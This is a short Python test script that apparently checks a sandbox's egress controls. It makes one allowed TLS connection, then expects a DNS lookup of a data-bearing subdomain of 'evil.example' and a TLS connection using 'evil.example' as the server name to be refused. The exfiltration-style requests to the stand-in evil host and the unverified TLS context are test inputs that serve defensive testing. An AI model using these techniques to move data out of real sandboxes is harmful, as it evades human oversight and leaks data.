# What a sandbox does that is on the record: a name it may have, one it may not, a connection through each door.
import socket
import ssl
import sys

done = 0


def refused(what):
    global done
    try:
        what()
    except OSError:
        done += 1
        return
    sys.exit("it was not refused")


def reach(host, ask):
    global done
    context = ssl._create_unverified_context()
    with socket.create_connection((socket.gethostbyname(ask), 443), timeout=20) as plain:
        with context.wrap_socket(plain, server_hostname=host) as tls:
            tls.sendall(b"GET /log?data=not-for-the-record HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n")
            while tls.recv(4096):
                pass
    done += 1


reach("allowed.example", "allowed.example")
refused(lambda: socket.gethostbyname("data.not-for-anybody.evil.example"))
refused(lambda: reach("evil.example", "allowed.example"))
print("done", done, flush=True)
